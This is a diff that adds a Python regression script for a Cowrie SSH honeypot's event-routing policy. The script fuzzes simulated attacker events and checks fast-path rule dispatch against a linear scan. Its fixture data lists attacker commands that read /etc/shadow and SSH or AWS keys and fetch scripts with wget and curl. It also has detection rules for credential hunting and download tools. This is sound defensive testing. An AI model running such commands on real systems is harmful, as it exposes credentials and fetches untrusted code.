@@ -0,0 +1,106 @@
+#!/usr/bin/env python3
+"""
+check_policy.py
+
+Regression check for policy.Policy: the eventid dispatch table, the username
+and src_ip keyed candidates and the combined-regex field screens must pick the
+same first matching rule as testing every rule in file order.
+
+Usage example:
+  python3 scripts/check_policy.py [--events N] [--seed S]
+
+Exits non-zero (AssertionError) on the first event where they disagree.
+"""
+import os
+import sys
+import random
+import argparse
+
+ROOT = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")
+sys.path.insert(0, os.path.join(ROOT, "deception_controller"))
+
+from policy import Policy, compile_rule, ip_value  # noqa: E402
+
+EVENTIDS = ["cowrie.session.connect", "cowrie.login.success", "cowrie.login.failed",
+            "cowrie.command.input", "cowrie.session.file_download", "cowrie.session.closed"]
+USERNAMES = ["root", "admin", "pi", "oracle", "ubuntu", ""]
+ADDRESSES = ["10.0.50.7", "10.0.50.200", "10.0.51.3", "10.1.2.3", "192.168.1.10", "192.168.1.77",
+             "203.0.113.9", "::ffff:10.0.50.8", "2001:db8::1", "2001:db8:1::5", "fe80::1", "not-an-ip"]
+COMMANDS = ["ls -la", "cat /etc/passwd", "cat /etc/shadow", "cat ~/.ssh/id_rsa", "ls ~/.aws",
+            "wget http://203.0.113.9/x.sh", "curl -O http://x/y", "uname -a", "echo aa", "echo ab",
+            "history", "id", None]
+URLS = ["http://203.0.113.9/x.sh", "https://example.com/miner", "ftp://files/a.bin", None]
+
+RULES = [
+    {"name": "lab-monitoring", "src_ip": ["10.0.50.0/24"], "action": "ignore"},
+    {"name": "root-downloads", "eventid": "cowrie.session.file_download", "username": "root",
+     "target": "lab1"},
+    {"name": "scripts", "eventid": "cowrie.session.file_download", "match": {"url": r"\.sh$"}},
+    {"name": "credential-hunting", "eventid": "cowrie.command.input",
+     "command": r"(passwd|shadow|id_rsa|\.aws)", "target": "lab1"},
+    {"name": "fetchers", "eventid": ["cowrie.command.input"], "command": r"\b(wget|curl)\b"},
+    {"name": "repeats", "eventid": "cowrie.command.input", "command": r"echo (a)\1"},
+    {"name": "inline-flags", "eventid": "cowrie.command.input", "command": r"(?i)UNAME"},
+    {"name": "admin-net", "username": ["admin", "oracle"], "src_ip": ["192.168.1.0/25"]},
+    {"name": "v6-docs", "src_ip": ["2001:db8::/32"], "action": "ignore"},
+    {"name": "v6-docs-narrow", "src_ip": ["2001:db8::/48", "10.0.0.0/8"], "target": "lab2"},
+    {"name": "logins", "eventid": ["cowrie.login.success", "cowrie.login.failed"],
+     "username": ["pi", "ubuntu"]},
+    {"name": "any-history", "eventid": "*", "command": r"^history$"},
+    {"name": "downloads", "eventid": "cowrie.session.file_download"},
+    {"name": "closed", "eventid": "cowrie.session.closed", "action": "ignore"},
+]
+
+
+def linear(rules, default, event):
+    """Reference: the first rule in file order whose conditions all hold."""
+    ip = ip_value(event.get('src_ip'))
+    for rule in rules:
+        if rule.eventids is not None and event.get('eventid') not in rule.eventids:
+            continue
+        if rule.matches(event, ip):
+            return rule
+    return default
+
+
+def random_event(rng):
+    event = {"eventid": rng.choice(EVENTIDS), "src_ip": rng.choice(ADDRESSES),
+             "username": rng.choice(USERNAMES)}
+    command = rng.choice(COMMANDS)
+    if command is not None:
+        event["input"] = command
+    url = rng.choice(URLS)
+    if url is not None:
+        event["url"] = url
+    return event
+
+
+def main():
+    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[1])
+    parser.add_argument("--events", type=int, default=20000)
+    parser.add_argument("--seed", type=int, default=786)
+    args = parser.parse_args()
+
+    for default in ('place', 'ignore'):
+        rules = [compile_rule(spec, i) for i, spec in enumerate(RULES, 1)]
+        policy = Policy(rules, default)
+        # the check is only meaningful if the fast paths are in use
+        bucket = policy.table["cowrie.command.input"]
+        assert "input" in bucket.screens, "command patterns were not prescreened"
+        assert bucket.by_network is not None and bucket.by_username, "no keyed candidates"
+
+        rng = random.Random(args.seed)
+        decided = {}
+        for _ in range(args.events):
+            event = random_event(rng)
+            got = policy.evaluate(event)
+            want = linear(rules, policy.default, event)
+            assert got is want, f"{event}: policy chose {got.name}, linear scan chose {want.name}"
+            decided[got.name] = decided.get(got.name, 0) + 1
+        unused = {spec["name"] for spec in RULES} - set(decided)
+        assert not unused, f"rules never decided an event: {', '.join(sorted(unused))}"
+        print(f"OK (default {default}): {args.events} events, {len(decided)} distinct deciding rules")
+
+
+if __name__ == "__main__":
+    main()